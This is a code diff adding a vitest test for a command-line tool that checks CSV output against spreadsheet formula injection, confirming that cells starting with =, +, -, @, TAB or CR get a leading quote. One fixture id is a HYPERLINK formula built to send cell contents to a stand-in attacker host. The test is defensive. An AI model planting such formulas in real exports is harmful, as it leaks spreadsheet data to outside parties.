@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest'
+import { parse as parseCsv } from 'csv-parse/sync'
+import { csvCell } from '../src/commands/screen.js'
 import { spawnSync } from 'node:child_process'
 import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -125,6 +127,26 @@ describe('vbe screen', () => {
     expect(code).toBe(1)
     expect(err).toBe(`${file}: header (line 1): contact.name: person columns are not read here; remove this column\n`)
     expect(out.trim().split('\n')).toHaveLength(2)
+  })
+
+  it('writes no live spreadsheet formula: cells starting with = + - @ TAB or CR get a leading quote (issue 16, finding 14)', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'vbe-screen-'))
+    const file = join(dir, 'formulas.ndjson')
+    const app = JSON.parse(readFileSync(fixture('one.json'), 'utf8')) as Record<string, unknown>
+    const ids = ['=HYPERLINK("http://evil.invalid/?"&A1,"klicka")', '+SUM(1,2)', '-2+3', '@SUM(1)', 'plain-id']
+    writeFileSync(file, ids.map((id) => JSON.stringify({ ...app, id })).join('\n') + '\n')
+    const { code, out } = vbe('screen', file, ...on, '--format', 'csv')
+    expect(code).toBe(0)
+    const rows = parseCsv(out, { columns: true }) as Array<{ id: string }>
+    expect(rows.map((r) => r.id)).toEqual([
+      `'=HYPERLINK("http://evil.invalid/?"&A1,"klicka")`,
+      "'+SUM(1,2)",
+      "'-2+3",
+      "'@SUM(1)",
+      'plain-id',
+    ])
+    // Ids are trimmed when read, so TAB and CR first reach a cell only through other text.
+    expect(['\tx', '\rx=1', 'a=b', '-'].map(csvCell)).toEqual(["'\tx", `"'\rx=1"`, 'a=b', "'-"])
   })
 
   it('uses the screening date: a report due on the date is not yet overdue, the day after it is', () => {
